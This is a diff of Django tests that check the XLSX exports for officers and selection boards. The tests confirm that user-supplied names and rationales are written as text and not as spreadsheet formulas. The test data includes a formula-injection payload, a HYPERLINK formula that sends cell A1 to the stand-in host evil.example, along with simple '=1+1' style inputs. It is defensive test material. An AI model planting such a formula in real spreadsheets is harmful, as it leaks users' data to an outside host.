@@ -15,6 +15,7 @@ from django.core.management import call_command
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from analytics import services as analytics_services
 from tests.factories import EmploymentSpellFactory, OfficerFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
@@ -97,7 +98,6 @@ def test_officer_xlsx_export_writes_text_cells(client, superuser, street_east):
 def test_selection_board_export_writes_names_and_rationales_as_text(
     client, hr_east, district_east, street_east, make_officer
 ):
-    from analytics import board as board_service
     from analytics.models import SelectionBoard
 
     street_east.name = "=1+1"
@@ -105,9 +105,7 @@ def test_selection_board_export_writes_names_and_rationales_as_text(
     officer = make_officer(street_east, username="cand", name=HYPERLINK)
     board = SelectionBoard.objects.create(title="择优选用", unit=district_east, created_by=hr_east)
     board.candidates.set([officer])
-    board_service.decide(
-        board=board, officer=officer, by=hr_east, outcome="extend", rationale="=2+2 @SUM(A1)"
-    )
+    analytics_services.decide(board=board, officer=officer, by=hr_east, outcome="extend", rationale="=2+2 @SUM(A1)")
     client.force_login(hr_east)
     response = client.get(reverse("analytics:board_export", args=[board.pk]))
     assert response.status_code == 200
